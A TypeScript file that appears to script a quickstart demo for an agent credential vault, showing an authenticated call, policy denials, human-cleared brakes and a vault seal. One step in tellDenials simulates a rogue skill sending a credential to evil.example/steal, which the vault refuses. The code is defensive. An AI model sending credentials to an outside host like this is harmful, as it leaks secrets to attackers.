import { Chancery as Client, type ExecuteAnswer } from '@chancery/client/chancery.js';
import { ChanceryError } from '@chancery/client/errors.js';
import type { Door } from './doors.js';
import { type DemoUpstream, UPSTREAM_HOST } from './demo-upstream.js';
import type { Narrator } from './narrator.js';
import { replayProof } from './replay-proof.js';
import type { QuickstartState } from './state-file.js';
import { tellApproval } from './story-approval.js';
import { type EvidenceTools, tellEvidence } from './story-evidence.js';
import { tellStream } from './story-stream.js';

const GLOBAL_CONFIRMATION = 'clear the global brake';

export interface Stage {
  readonly state: QuickstartState;
  readonly masterPassword: string;
  readonly upstream: DemoUpstream;
  /** Each party's door; people have shown their second factor within five minutes. */
  readonly doors: { readonly owner: Door; readonly staff: Door; readonly tenantKey: Door; readonly opsKey: Door };
  readonly evidence: EvidenceTools;
}

/** Every step goes through the same doors a user has. */
export async function tellStory(narrator: Narrator, stage: Stage): Promise<void> {
  const { state } = stage;
  const agent = (name: string) => {
    const { id, apiKey } = state.agents[name] as { id: string; apiKey: string };
    return Client.connect({ url: state.tenantUrl, agentId: id, apiKey });
  };
  const scribe = await agent('scribe');
  const intern = await agent('intern');
  try {
    const call = (): Promise<string> => outcome(() => use(scribe, state.credential));
    await tellMainJob(narrator, stage, scribe);
    await tellStream(narrator, { scribe, credential: state.credential, upstream: stage.upstream });
    await tellDenials(narrator, stage, scribe, intern);
    const { tenantKey: admin, owner } = stage.doors;
    await tellApproval(narrator, { scribe, state, key: stage.upstream.key, admin, owner });
    await tellBrakes(narrator, stage, call);
    await tellSeal(narrator, stage, call);
    await tellEvidence(narrator, stage.evidence);
  } finally {
    await scribe.close();
    await intern.close();
  }
}

async function tellMainJob(narrator: Narrator, { state, upstream }: Stage, scribe: Client): Promise<void> {
  const answer = await use(scribe, state.credential);
  narrator.line(`The agent sent      GET https://${UPSTREAM_HOST}/v1/hello   Authorization: Bearer {{CREDENTIAL}}`);
  narrator.line(`The API received    Authorization: ${upstream.lastAuthorization}`);
  narrator.line(`The agent got back  ${answer.status} ${answer.body}`);
  narrator.line();
  await narrator.step('The key reached the API and nobody else', '200', async () => {
    const received = upstream.lastAuthorization === `Bearer ${upstream.key}`;
    const leaked = JSON.stringify(answer).includes(upstream.key);
    if (!received || leaked) return 'the story is wrong';
    return `${answer.status}, ${answer.redactions} echo redacted, audit entry ${answer.audit.seq}`;
  });
}

async function tellDenials(
  narrator: Narrator,
  { state, upstream }: Stage,
  scribe: Client,
  intern: Client,
): Promise<void> {
  const before = upstream.requests;
  await narrator.step('A rogue skill sends it to evil.example', '403 domain_not_allowed', async () => {
    const seen = await outcome(() => use(scribe, state.credential, 'https://evil.example/steal'));
    return upstream.requests === before ? `${seen}, never decrypted` : 'the API was called';
  });
  await narrator.step('A NOVICE uses a COMPANION credential', '403 tier_too_low', () =>
    outcome(() => use(intern, state.credential)),
  );
  await narrator.step('A stolen request is replayed, proof and all', '200, then 401 invalid_dpop_proof', () =>
    replayProof(state),
  );
}

async function tellBrakes(narrator: Narrator, { state, doors }: Stage, call: () => Promise<string>): Promise<void> {
  const { owner, staff, tenantKey, opsKey } = doors;
  const reason = 'quickstart';
  const agentId = state.agents['scribe']?.id;
  const brakes = [
    {
      title: 'the credential',
      pull: tenantKey,
      clear: owner,
      body: { scope: 'credential', credential_name: state.credential },
    },
    { title: 'the agent', pull: tenantKey, clear: owner, body: { scope: 'agent', agent_id: agentId } },
    { title: 'the tenant', pull: tenantKey, clear: owner, body: { scope: 'tenant' } },
    {
      title: 'everything (global)',
      pull: opsKey,
      clear: staff,
      body: { scope: 'global' },
      confirm: GLOBAL_CONFIRMATION,
    },
  ];
  for (const { title, pull, clear, body, confirm } of brakes) {
    await narrator.step(`Brake on ${title}`, '403 brake_active, a person clears it: 200', async () => {
      const brake = await pull.post<{ id: string }>('/v1/brakes', { ...body, reason });
      const braked = await call();
      await clear.post(`/v1/brakes/${brake.id}/clear`, { reason, ...(confirm === undefined ? {} : { confirm }) });
      return `${braked}, a person clears it: ${await call()}`;
    });
  }
}

async function tellSeal(
  narrator: Narrator,
  { doors, masterPassword }: Stage,
  call: () => Promise<string>,
): Promise<void> {
  await narrator.step('The vault is sealed, then unsealed by a person', '503 vault_sealed, unsealed: 200', async () => {
    await doors.opsKey.post('/v1/vault/seal', { reason: 'quickstart' });
    const sealed = await call();
    await doors.staff.post('/v1/vault/unseal', { password: masterPassword });
    return `${sealed}, unsealed: ${await call()}`;
  });
}

function use(agent: Client, credential: string, url = `https://${UPSTREAM_HOST}/v1/hello`): Promise<ExecuteAnswer> {
  const headers = { authorization: 'Bearer {{CREDENTIAL}}' };
  return agent.execute(credential, { purpose: 'quickstart', request: { method: 'GET', url, headers } });
}

/** `200`, or the status and code of the refusal. */
async function outcome(work: () => Promise<ExecuteAnswer>): Promise<string> {
  try {
    return String((await work()).status);
  } catch (error) {
    if (error instanceof ChanceryError) return `${error.status} ${error.code}`;
    throw error;
  }
}
